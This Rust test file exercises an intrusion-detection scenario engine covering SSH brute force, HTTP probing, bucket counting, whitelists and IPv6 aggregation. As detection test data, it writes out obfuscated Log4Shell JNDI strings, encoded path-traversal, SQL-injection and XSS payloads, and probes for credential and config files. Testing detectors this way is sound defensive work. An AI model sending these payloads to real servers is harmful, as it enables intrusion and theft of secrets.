//! The scenario engine on synthetic observations: thresholds, windows, cooldowns, whitelists, IPv6
//! aggregation, bounded state and evidence.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use sentinel_core::{Alert, Severity, Subject, Timestamp};
use sentinel_detect::scenario::{parse_scenarios, BUILTIN};
use sentinel_detect::{EngineOptions, ScenarioEngine};
use std::net::IpAddr;

mod common;
use common::Obs;

fn ssh_fail(ts_s: i64, ip: &str, user: &str) -> Obs {
    Obs {
        ts: ts_s * 1000,
        kind: "auth_failure",
        service: "sshd",
        ip: ip.parse().unwrap(),
        fields: vec![("user", user.into())],
    }
}

fn http(ts_s: i64, ip: &str, method: &str, path: &str, status: u16, ua: &str) -> Obs {
    Obs {
        ts: ts_s * 1000,
        kind: "http_request",
        service: "nginx",
        ip: ip.parse().unwrap(),
        fields: vec![
            ("method", method.into()),
            ("path", path.into()),
            ("status", status.to_string()),
            ("user_agent", ua.into()),
        ],
    }
}

fn engine(opts: EngineOptions) -> ScenarioEngine {
    ScenarioEngine::new(parse_scenarios("builtin", BUILTIN).unwrap(), opts)
}

fn run(e: &mut ScenarioEngine, obs: &[Obs]) -> Vec<Alert> {
    let mut out = Vec::new();
    for o in obs {
        e.observe(o, Some(&format!("line for {} at {}", o.ip, o.ts)), &mut out);
    }
    out
}

fn names(alerts: &[Alert]) -> Vec<&str> {
    alerts.iter().map(|a| a.scenario.as_str()).collect()
}

#[test]
fn builtin_scenarios_load() {
    let defs = parse_scenarios("builtin", BUILTIN).unwrap();
    assert!(defs.len() >= 10);
    let e = engine(EngineOptions::default());
    for n in [
        "ssh_bruteforce",
        "ssh_slow_bruteforce",
        "ssh_user_enumeration",
        "http_probing",
        "http_sensitive_files",
        "http_bad_user_agent",
        "http_credential_stuffing",
        "mail_auth_bruteforce",
    ] {
        assert!(e.names().contains(&n), "{n}");
    }
}

#[test]
fn ssh_bruteforce_fires_on_the_sixth_fast_failure_then_cools_down() {
    let mut e = engine(EngineOptions::default());
    let five: Vec<Obs> = (0..5).map(|i| ssh_fail(i, "203.0.113.7", "root")).collect();
    assert!(run(&mut e, &five).is_empty());
    let out = run(&mut e, &[ssh_fail(5, "203.0.113.7", "root")]);
    assert_eq!(names(&out), ["ssh_bruteforce"]);
    let a = &out[0];
    assert_eq!(a.subject, Subject::Ip("203.0.113.7".parse().unwrap()));
    assert_eq!(a.severity, Severity::High);
    assert_eq!(a.ts, Timestamp::from_millis(5000));
    assert!(
        a.reasons[0].detail.starts_with("6 matching lines"),
        "{}",
        a.reasons[0].detail
    );
    assert!(!a.evidence.is_empty() && a.evidence.len() <= 5);
    assert!(a.evidence.last().unwrap().attrs["line"]
        .as_str()
        .unwrap()
        .contains("at 5000"));
    // Within the one-minute cooldown nothing more; after it, a new burst fires again.
    let burst: Vec<Obs> = (6..20)
        .map(|i| ssh_fail(i, "203.0.113.7", "root"))
        .collect();
    assert!(!names(&run(&mut e, &burst)).contains(&"ssh_bruteforce"));
    let later: Vec<Obs> = (200..206)
        .map(|i| ssh_fail(i, "203.0.113.7", "root"))
        .collect();
    assert!(names(&run(&mut e, &later)).contains(&"ssh_bruteforce"));
}

#[test]
fn slow_bruteforce_is_caught_by_the_slow_bucket_only() {
    let mut e = engine(EngineOptions::default());
    let slow: Vec<Obs> = (0..30)
        .map(|i| ssh_fail(i * 20, "198.51.100.20", "admin"))
        .collect();
    let out = run(&mut e, &slow);
    let n = names(&out);
    assert!(n.contains(&"ssh_slow_bruteforce"), "{n:?}");
    assert!(!n.contains(&"ssh_bruteforce"), "{n:?}");
}

#[test]
fn user_enumeration_counts_distinct_users() {
    let mut e = engine(EngineOptions::default());
    // The same user over and over is not enumeration (it is brute force, counted elsewhere).
    let same: Vec<Obs> = (0..8).map(|i| ssh_fail(i, "203.0.113.8", "root")).collect();
    assert!(!names(&run(&mut e, &same)).contains(&"ssh_user_enumeration"));
    // CrowdSec's ssh-bf_user-enum: a bucket of 5 distinct users leaking one every 10 s; the sixth
    // distinct user within it fires. Repeats of a user already in the bucket do not pour.
    let users = ["alice", "bob", "alice", "carol", "dave", "bob", "erin"];
    let many: Vec<Obs> = users
        .iter()
        .enumerate()
        .map(|(i, u)| ssh_fail(200 + i as i64, "203.0.113.9", u))
        .collect();
    assert!(!names(&run(&mut e, &many)).contains(&"ssh_user_enumeration"));
    let out = run(&mut e, &[ssh_fail(208, "203.0.113.9", "frank")]);
    assert!(
        names(&out).contains(&"ssh_user_enumeration"),
        "{:?}",
        names(&out)
    );
}

#[test]
fn http_probing_counts_distinct_missing_paths_only() {
    let mut e = engine(EngineOptions::default());
    let ok: Vec<Obs> = (0..50)
        .map(|i| {
            http(
                i,
                "198.51.100.30",
                "GET",
                &format!("/p/{i}"),
                200,
                "Mozilla/5.0",
            )
        })
        .collect();
    assert!(run(&mut e, &ok).is_empty());
    // Missing static files (a stale theme) are not probing.
    let assets: Vec<Obs> = (0..30)
        .map(|i| {
            http(
                60 + i,
                "198.51.100.32",
                "GET",
                &format!("/theme/img{i}.png"),
                404,
                "Mozilla/5.0",
            )
        })
        .collect();
    assert!(run(&mut e, &assets).is_empty());
    // CrowdSec's http-probing: capacity 10, leak 10 s, distinct paths: the eleventh in a burst fires.
    let probes: Vec<Obs> = (0..11)
        .map(|i| {
            http(
                100,
                "198.51.100.31",
                "GET",
                &format!("/old{i}.php"),
                404,
                "Mozilla/5.0",
            )
        })
        .collect();
    assert!(run(&mut e, &probes[..10]).is_empty());
    let out = run(&mut e, &probes[10..]);
    assert_eq!(names(&out), ["http_probing"]);
}

#[test]
fn sensitive_files_and_bad_agents() {
    let mut e = engine(EngineOptions::default());
    // The same file over and over never fires by itself (distinct paths, as CrowdSec counts them).
    let env: Vec<Obs> = (0..10)
        .map(|i| http(i, "203.0.113.40", "GET", "/.env", 404, "curl/8.0"))
        .collect();
    assert!(run(&mut e, &env).is_empty());
    let files = [
        "/.git/config",
        "/backup.sql",
        "/.aws/credentials",
        "/wp-config.php.bak",
    ];
    let more: Vec<Obs> = files
        .iter()
        .map(|p| http(9, "203.0.113.40", "GET", p, 404, "curl/8.0"))
        .collect();
    let out = run(&mut e, &more);
    assert_eq!(names(&out), ["http_sensitive_files"]);
    // CrowdSec's http-bad-user-agent: capacity 1, so the second request fires.
    let ua = "sqlmap/1.7.2#stable (https://sqlmap.org)";
    let out = run(&mut e, &[http(10, "203.0.113.41", "GET", "/", 200, ua)]);
    assert!(out.is_empty());
    let out = run(&mut e, &[http(11, "203.0.113.41", "GET", "/x", 200, ua)]);
    assert_eq!(names(&out), ["http_bad_user_agent"]);
    let out = run(&mut e, &[http(12, "203.0.113.41", "GET", "/y", 200, ua)]);
    assert!(out.is_empty(), "cooldown");
}

#[test]
fn credential_stuffing_on_a_login_endpoint() {
    let mut e = engine(EngineOptions::default());
    let posts: Vec<Obs> = (0..15)
        .map(|i| {
            http(
                i,
                "203.0.113.50",
                "POST",
                "/wp-login.php",
                200,
                "Mozilla/5.0",
            )
        })
        .collect();
    assert!(names(&run(&mut e, &posts)).contains(&"http_credential_stuffing"));
    let gets: Vec<Obs> = (0..30)
        .map(|i| http(i, "203.0.113.51", "GET", "/login", 200, "Mozilla/5.0"))
        .collect();
    assert!(
        run(&mut e, &gets).is_empty(),
        "GETs of the login page are not attempts"
    );
}

#[test]
fn whitelisted_sources_are_never_counted() {
    let mut e = engine(EngineOptions {
        whitelist: vec!["203.0.113.0/28".parse().unwrap()],
        ..Default::default()
    });
    let burst: Vec<Obs> = (0..50)
        .map(|i| ssh_fail(i, "203.0.113.7", "root"))
        .collect();
    assert!(run(&mut e, &burst).is_empty());
    assert_eq!(e.stats().whitelisted, 50);
    assert_eq!(e.stats().live_keys, 0);
}

#[test]
fn ipv6_sources_aggregate_per_prefix_when_asked() {
    let burst = |n: i64| -> Vec<Obs> {
        (0..n)
            .map(|i| ssh_fail(i, &format!("2001:db8:1:2::{:x}", i + 1), "root"))
            .collect()
    };
    let mut plain = engine(EngineOptions::default());
    assert!(run(&mut plain, &burst(6)).is_empty(), "six different hosts");
    let mut agg = engine(EngineOptions {
        ipv6_prefix: Some(64),
        ..Default::default()
    });
    let out = run(&mut agg, &burst(6));
    assert_eq!(names(&out), ["ssh_bruteforce"]);
    assert_eq!(
        out[0].subject,
        Subject::Ip("2001:db8:1:2::".parse().unwrap())
    );
}

#[test]
fn state_stays_under_the_cap_and_expires_by_event_time() {
    let cap = 10_000;
    let mut e = engine(EngineOptions {
        max_keys_per_scenario: cap,
        ..Default::default()
    });
    // bruteforce, slow, user enumeration, slow user enumeration, time-based
    let scenarios_matching_ssh = 5;
    let mut out = Vec::new();
    // 300,000 distinct sources, each failing once, all within one second: everything is live.
    for i in 0..300_000u32 {
        let ip = IpAddr::from(std::net::Ipv4Addr::from(
            0xC6_33_00_00 | (i & 0xFFFF) | ((i >> 16) << 24),
        ));
        let o = Obs {
            ts: 1000,
            kind: "auth_failure",
            service: "sshd",
            ip,
            fields: vec![("user", "x".into())],
        };
        e.observe(&o, None, &mut out);
        assert!(e.stats().live_keys as usize <= cap * scenarios_matching_ssh);
    }
    assert!(out.is_empty());
    assert!(e.stats().evicted_keys > 0);
    // Event time moves on by a day: one more observation sweeps the idle keys instead of evicting.
    let mut e = engine(EngineOptions {
        max_keys_per_scenario: cap,
        ..Default::default()
    });
    for i in 0..cap as u32 {
        let ip = IpAddr::from(std::net::Ipv4Addr::from(
            0xCB_00_71_00_u32.wrapping_add(i << 8),
        ));
        e.observe(
            &Obs {
                ts: 0,
                kind: "auth_failure",
                service: "sshd",
                ip,
                fields: vec![("user", "x".into())],
            },
            None,
            &mut out,
        );
    }
    e.observe(&ssh_fail(86_400, "192.0.2.1", "y"), None, &mut out);
    let s = e.stats();
    assert!(s.expired_keys >= cap as u64, "{s:?}");
    assert_eq!(s.evicted_keys, 0);
}

#[test]
fn out_of_order_and_extreme_timestamps_do_not_break_counting() {
    let mut e = engine(EngineOptions::default());
    let mut obs: Vec<Obs> = (0..6)
        .rev()
        .map(|i| ssh_fail(i, "203.0.113.77", "root"))
        .collect();
    obs.push(ssh_fail(i64::MAX / 2000, "203.0.113.77", "root"));
    obs.push(ssh_fail(i64::MIN / 2000, "203.0.113.77", "root"));
    let out = run(&mut e, &obs);
    assert!(names(&out).contains(&"ssh_bruteforce"));
}

#[test]
fn evidence_lines_are_redacted() {
    let mut e = engine(EngineOptions::default());
    let mut out = Vec::new();
    for i in 0..6 {
        let o = ssh_fail(i, "203.0.113.90", "root");
        e.observe(
            &o,
            Some(&format!(
                "pam: auth failure password=Hunter{i} from 203.0.113.90"
            )),
            &mut out,
        );
    }
    let text = serde_json::to_string(&out).unwrap();
    assert!(text.contains("password=***"));
    assert!(!text.contains("Hunter"));
}

#[test]
fn bad_scenario_files_report_every_problem() {
    let yaml = r#"
- name: ok_one
  counting: { type: trigger }
  severity: low
- name: bad bucket
  counting: { type: leaky, capacity: 0, leak: 0s }
  severity: high
- name: typo
  counting: { type: trigger }
  severty: high
"#;
    let errs = parse_scenarios("mine.yaml", yaml).unwrap_err();
    let text: Vec<String> = errs.iter().map(|e| e.to_string()).collect();
    assert!(
        text.iter()
            .any(|t| t.contains("scenario `typo`") && t.contains("severty")),
        "{text:?}"
    );
    assert!(
        text.iter()
            .any(|t| t.contains("`bad bucket`") && t.contains("capacity")),
        "{text:?}"
    );
    assert!(
        text.iter()
            .any(|t| t.contains("`bad bucket`") && t.contains("leak")),
        "{text:?}"
    );
    assert!(
        text.iter()
            .any(|t| t.contains("`bad bucket`") && t.contains("`name`")),
        "{text:?}"
    );
    assert!(text.iter().all(|t| t.starts_with("mine.yaml: ")));
}

#[test]
fn evidence_of_quiet_keys_makes_room_for_new_ones() {
    let mut e = engine(EngineOptions {
        max_evidence_keys: 10,
        ..Default::default()
    });
    let mut out = Vec::new();
    // Ten sources get "hot" (3 failures each, below the threshold of 6) and then go quiet.
    for k in 0..10u8 {
        for i in 0..3 {
            e.observe(
                &ssh_fail(i, &format!("203.0.113.{k}"), "root"),
                Some("warm-up line"),
                &mut out,
            );
        }
    }
    // Two hours later a new attacker fires: its alert still carries its lines.
    for i in 0..6 {
        e.observe(
            &ssh_fail(7200 + i, "198.51.100.200", "root"),
            Some(&format!("late line {i}")),
            &mut out,
        );
    }
    let a = out.iter().find(|a| a.scenario == "ssh_bruteforce").unwrap();
    assert!(a.evidence.len() > 1, "{:?}", a.evidence);
    assert!(a
        .evidence
        .iter()
        .all(|ev| ev.attrs["line"].as_str().unwrap().starts_with("late line")));
}

/// fail2ban's rule: `maxretry` failures within `findtime` (inclusive), counted per source on a sliding window.
#[test]
fn window_counting_fires_at_threshold_within_the_window_and_not_before() {
    let defs = parse_scenarios(
        "t",
        "- name: f2b\n  counting: { type: window, threshold: 3, window: 10m }\n  filter: { kind: [auth_failure] }\n  severity: high\n  cooldown: 1s\n",
    )
    .unwrap();
    let mut e = ScenarioEngine::new(defs, EngineOptions::default());
    let mut out: Vec<Alert> = Vec::new();
    // Spread out: never 3 within 10 minutes (each gap 301 s, so first-to-third is 602 s).
    for i in 0..6 {
        e.observe(&ssh_fail(i * 301, "192.0.2.1", "a"), None, &mut out);
    }
    assert!(out.is_empty(), "{out:?}");
    // Exactly 600 s from first to third counts (fail2ban's findtime is inclusive).
    e.observe(&ssh_fail(10_000, "192.0.2.2", "a"), None, &mut out);
    e.observe(&ssh_fail(10_300, "192.0.2.2", "a"), None, &mut out);
    assert!(out.is_empty());
    e.observe(&ssh_fail(10_600, "192.0.2.2", "a"), None, &mut out);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].subject, Subject::Ip("192.0.2.2".parse().unwrap()));
    assert!(
        out[0].reasons[0].detail.contains("3 matching lines"),
        "{:?}",
        out[0].reasons
    );
    // After firing the window starts again.
    e.observe(&ssh_fail(10_602, "192.0.2.2", "a"), None, &mut out);
    e.observe(&ssh_fail(10_603, "192.0.2.2", "a"), None, &mut out);
    assert_eq!(out.len(), 1);
    e.observe(&ssh_fail(10_604, "192.0.2.2", "a"), None, &mut out);
    assert_eq!(out.len(), 2);
    let bad = parse_scenarios(
        "t",
        "- name: x\n  counting: { type: window, threshold: 0, window: 0s }\n  severity: low\n",
    )
    .unwrap_err();
    assert_eq!(bad.len(), 2, "{bad:?}");
}

#[test]
fn bad_conditions_groups_and_lists_are_reported_together() {
    let yaml = r#"
- name: two_tests
  counting: { type: trigger }
  severity: low
  filter:
    match:
      - { field: path, contains: [a], ends_with: [b] }
- name: no_test
  counting: { type: trigger }
  severity: low
  filter:
    any_of:
      - match: [{ field: path }]
- name: unknown_list
  counting: { type: trigger }
  severity: low
  filter:
    match: [{ field: path, contains: ["@no_such_list"] }]
- name: bad_regex
  counting: { type: trigger }
  severity: low
  filter:
    match: [{ field: path, regex: ["(unclosed"] }]
- name: bad_groups
  counting: { type: trigger }
  severity: low
  group_by: [source, "path:nowhere"]
  min_sources: 3
- name: bad_spaced
  counting: { type: spaced, count: 2, median_interval: 3h, expire: 2h }
  severity: low
- name: bad_distinct
  counting: { type: leaky, capacity: 3, leak: 1s, distinct: ":file" }
  severity: low
"#;
    let errs = parse_scenarios("mine.yaml", yaml).unwrap_err();
    let text: Vec<String> = errs.iter().map(|e| e.to_string()).collect();
    let has = |name: &str, what: &str| {
        assert!(
            text.iter()
                .any(|t| t.contains(&format!("`{name}`")) && t.contains(what)),
            "{name}: {what}: {text:?}"
        );
    };
    has("two_tests", "exactly one of");
    has("no_test", "any_of[0].match[0]");
    has("unknown_list", "no built-in list `no_such_list`");
    has("bad_regex", "(unclosed");
    has("bad_groups", "unknown part `nowhere`");
    has(
        "bad_groups",
        "`min_sources` needs a `group_by` without `source`",
    );
    has("bad_spaced", "`counting.count`");
    has("bad_spaced", "median_interval");
    has("bad_distinct", "names no field");
}

#[test]
fn conditions_on_parts_decoded_forms_and_negation() {
    let yaml = r#"
- name: encoded_dotdot
  counting: { type: trigger }
  severity: low
  filter:
    kind: [http_request]
    match:
      - { field: path, part: query, decode: true, contains: ["../"] }
      - { field: path, part: path, ends_with: [".css"], negate: true }
      - { field: referer, present: false }
"#;
    let mut e = ScenarioEngine::try_new(
        parse_scenarios("t", yaml).unwrap(),
        EngineOptions::default(),
    )
    .unwrap();
    let hit = |e: &mut ScenarioEngine, ip: &str, path: &str| {
        !run(e, &[http(0, ip, "GET", path, 200, "x")]).is_empty()
    };
    assert!(
        hit(&mut e, "192.0.2.1", "/a?f=%252e%252e%252fetc"),
        "double-encoded"
    );
    assert!(hit(&mut e, "192.0.2.2", "/a?f=..%2Fetc"), "encoded once");
    assert!(
        !hit(&mut e, "192.0.2.3", "/../a?f=x"),
        "in the path, not the query"
    );
    assert!(
        !hit(&mut e, "192.0.2.4", "/site.css?f=../x"),
        "negated: a stylesheet"
    );
    let mut with_referer = http(0, "192.0.2.5", "GET", "/a?f=../x", 200, "x");
    with_referer
        .fields
        .push(("referer", "https://example.org/".into()));
    assert!(run(&mut e, &[with_referer]).is_empty(), "present: false");
}

#[test]
fn the_readme_scenario_example_is_valid() {
    let readme =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../README.md")).unwrap();
    let start = readme
        .find("- name: wp_xmlrpc_abuse")
        .expect("example in README");
    let yaml = &readme[start..start + readme[start..].find("```").unwrap()];
    let defs = parse_scenarios("README.md", yaml).unwrap();
    assert_eq!(defs.len(), 2);
    let mut e = ScenarioEngine::try_new(defs, EngineOptions::default()).unwrap();
    let probes: Vec<Obs> = ["/.env", "/.git/config", "/x.sql", "/.env.bak", "/.htpasswd"]
        .iter()
        .map(|p| http(0, "192.0.2.77", "GET", p, 404, "x"))
        .collect();
    assert_eq!(names(&run(&mut e, &probes)), ["env_probing"]);
}

/// Evasions an attacker uses against signature lists: each payload form must still be seen.
#[test]
fn encoded_and_obfuscated_payloads_are_still_detected() {
    let fires = |scenario: &str, paths: Vec<String>, ua: &str| {
        let mut e = engine(EngineOptions::default());
        let obs: Vec<Obs> = paths
            .iter()
            .map(|p| http(100, "198.51.100.9", "GET", p, 404, ua))
            .collect();
        let alerts = run(&mut e, &obs);
        names(&alerts).contains(&scenario)
    };
    let many = |f: &dyn Fn(usize) -> String, n: usize| (0..n).map(f).collect::<Vec<_>>();
    // Log4Shell with lookup prefixes no list names (k8s, main, …) and a lookup inside the word.
    for p in [
        "/?x=${${k8s:k5:-J}${k8s:k5:-ND}i:ldap://x/a}",
        "/?x=${j${lower:n}di:ldap://x/a}",
        "/?x=%24%7B%24%7Bmain%3Ax%3A-j%7Dndi%3Aldap%3A%2F%2Fx%7D",
    ] {
        assert!(
            fires("http_log4j_jndi", vec![p.into()], "Mozilla/5.0"),
            "{p}"
        );
    }
    assert!(fires(
        "http_log4j_jndi",
        vec!["/".into()],
        "${${k8s:k5:-J}ndi:ldap://x}"
    ));
    // Path traversal: overlong UTF-8, IIS %u escapes, full-width dots and slashes (nginx logs non-ASCII
    // bytes as \xHH), raw full-width in a JSON log.
    let trav: [&dyn Fn(usize) -> String; 4] = [
        &|i| format!("/..%c0%af..%c0%afetc/x{i}"),
        &|i| format!("/%u002e%u002e%u2215%u002e%u002e%u2215secret{i}"),
        &|i| format!("/\\xEF\\xBC\\x8E\\xEF\\xBC\\x8E\\xEF\\xBC\\x8Fsecret{i}"),
        &|i| format!("/\u{FF0E}\u{FF0E}\u{FF0F}secret{i}"),
    ];
    for f in trav {
        let paths = many(f, 5);
        assert!(
            fires("http_path_traversal", paths.clone(), "Mozilla/5.0"),
            "{paths:?}"
        );
    }
    // SQLi: UNION SELECT separated by comments, tabs, parentheses, MySQL version comments.
    let sqli: [&dyn Fn(usize) -> String; 4] = [
        &|i| format!("/item?id=1/**/union/**/select/**/{i},2"),
        &|i| format!("/item?id=1%09UNION%09SELECT%09{i}"),
        &|i| format!("/item?id=1+union(select+{i})"),
        &|i| format!("/item?id={i}+/*!50000union*/+/*!50000select*/+1"),
    ];
    // XSS: a javascript: URL with the tabs or newlines browsers ignore inside the scheme.
    let xss: [&dyn Fn(usize) -> String; 2] =
        [&|i| format!("/go?u=java%09script:alert({i})"), &|i| {
            format!("/go?u=j%0Aava%0Dscript:prompt({i})")
        }];
    for f in xss {
        let paths = many(f, 8);
        assert!(
            fires("http_xss_probing", paths.clone(), "Mozilla/5.0"),
            "{paths:?}"
        );
    }
    for f in sqli {
        let paths = many(f, 12);
        assert!(
            fires("http_sqli_probing", paths.clone(), "Mozilla/5.0"),
            "{paths:?}"
        );
    }
}

/// A busy site's benign traffic that looks like the signatures' words must not trip them.
#[test]
fn benign_look_alikes_do_not_fire_signature_scenarios() {
    let mut e = engine(EngineOptions::default());
    let mut obs = Vec::new();
    for i in 0..40 {
        for p in [
            format!("/search?q=how+to+select+union+members+{i}"),
            format!("/search?q=i+%3C3+you+{i}"),
            format!("/search?q=..%2F+means+parent+dir+{i}"),
            format!("/forum?q=select+*+from+table+tutorial+{i}"),
            format!("/search?q=%EF%BC%A1%EF%BC%A2%EF%BC%A3+{i}"),
            format!("/api/items/{i}?fields=id,name&sort=-created"),
        ] {
            obs.push(http(100 + i, "203.0.113.7", "GET", &p, 200, "Mozilla/5.0"));
        }
    }
    let alerts = run(&mut e, &obs);
    for a in &alerts {
        assert!(
            !matches!(
                a.scenario.as_str(),
                "http_sqli_probing" | "http_xss_probing" | "http_log4j_jndi"
            ),
            "{}",
            a.scenario
        );
    }
}

#[test]
fn an_empty_needle_is_an_error_not_a_match_everything() {
    for op in ["contains", "starts_with", "ends_with", "words", "regex"] {
        let yaml = format!(
            "- name: mine\n  counting: {{ type: trigger }}\n  severity: low\n  filter:\n    kind: [http_request]\n    match: [{{ field: path, {op}: [\"/x\", \"\"] }}]\n"
        );
        let errs = parse_scenarios("mine.yaml", &yaml).unwrap_err();
        let text = errs
            .iter()
            .map(|e| e.to_string())
            .collect::<Vec<_>>()
            .join("\n");
        assert!(
            text.contains("mine.yaml")
                && text.contains(&format!("filter.match[0].{op}` has an empty entry")),
            "{op}: {text}"
        );
    }
    // `equals: [""]` is meaningful (an empty query) and stays valid.
    let yaml = "- name: mine\n  counting: { type: trigger }\n  severity: low\n  filter:\n    kind: [http_request]\n    match: [{ field: path, part: query, equals: [\"\"] }]\n";
    assert!(parse_scenarios("mine.yaml", yaml).is_ok());
}

/// Sensitive files asked for with paths the server normalizes (`//`, `/./`, `;param`, `%00`).
#[test]
fn sensitive_files_behind_path_normalization_are_detected() {
    let forms: [[&str; 5]; 4] = [
        [
            "//.env",
            "/.git//config",
            "//backup.sql",
            "//.htpasswd",
            "//wp-config.php.bak",
        ],
        [
            "/./.env",
            "/.git/./config",
            "/x/.git/./index",
            "/.git/logs//HEAD",
            "/y/./.htpasswd",
        ],
        [
            "/.env;x",
            "/.git/config;a",
            "/backup.sql;b",
            "/.htpasswd;c",
            "/wp-config.php.bak;d",
        ],
        [
            "/.env%00",
            "/.git/config%00.jpg",
            "/backup.sql%00",
            "/.htpasswd%00.png",
            "/wp-config.php.bak%00",
        ],
    ];
    for paths in forms {
        let mut e = engine(EngineOptions::default());
        let obs: Vec<Obs> = paths
            .iter()
            .map(|p| http(100, "198.51.100.9", "GET", p, 404, "Mozilla/5.0"))
            .collect();
        let alerts = run(&mut e, &obs);
        assert!(
            names(&alerts).contains(&"http_sensitive_files"),
            "{paths:?}: {:?}",
            names(&alerts)
        );
    }
}

/// The clock's tick frees an attacker's state once it is idle, with no new event to make room: the
/// keys are live before the window runs out, still live on a tick inside it, and gone on a tick after.
#[test]
fn a_tick_expires_idle_keys_without_new_events() {
    use sentinel_core::Detector;
    let mut e = engine(EngineOptions::default());
    let alerts = run(
        &mut e,
        &[
            ssh_fail(1_000, "203.0.113.30", "root"),
            ssh_fail(1_001, "203.0.113.31", "admin"),
        ],
    );
    assert!(alerts.is_empty());
    let live = e.stats().live_keys;
    assert!(live > 0);
    let mut out = Vec::new();
    e.tick(Timestamp::from_millis(1_002_000), &mut out);
    assert_eq!(
        e.stats().live_keys,
        live,
        "a tick inside the window dropped live state"
    );
    assert_eq!(e.state_counts().expired, 0);
    // A day later, nothing is inside any window.
    e.tick(Timestamp::from_millis((1_001 + 86_400) * 1000), &mut out);
    assert!(out.is_empty(), "silence raised an alert: {out:?}");
    assert_eq!(e.stats().live_keys, 0);
    assert_eq!(e.state_counts().expired, live);
}

/// The shared tally follows the engine from another owner: per scenario, what it counted and what it
/// raised; a whitelisted source is not counted; scenarios never touched stay at 0.
#[test]
fn the_tally_counts_matches_and_alerts_per_scenario() {
    let mut e = engine(EngineOptions {
        whitelist: vec!["192.0.2.0/24".parse().unwrap()],
        ..EngineOptions::default()
    });
    let tally = e.tally();
    assert!(tally.read().iter().all(|c| c.matched == 0 && c.alerts == 0));
    let mut obs: Vec<Obs> = (0..6).map(|i| ssh_fail(i, "203.0.113.7", "root")).collect();
    obs.push(ssh_fail(7, "192.0.2.1", "root"));
    let out = run(&mut e, &obs);
    let read = tally.read();
    let ssh = read.iter().find(|c| c.name == "ssh_bruteforce").unwrap();
    assert_eq!((ssh.matched, ssh.alerts), (6, 1));
    let fired = out
        .iter()
        .filter(|a| a.scenario == "ssh_bruteforce")
        .count() as u64;
    assert_eq!(ssh.alerts, fired);
    let web = read.iter().find(|c| c.name == "http_probing").unwrap();
    assert_eq!((web.matched, web.alerts), (0, 0));
    assert_eq!(read.len(), e.names().len());
}
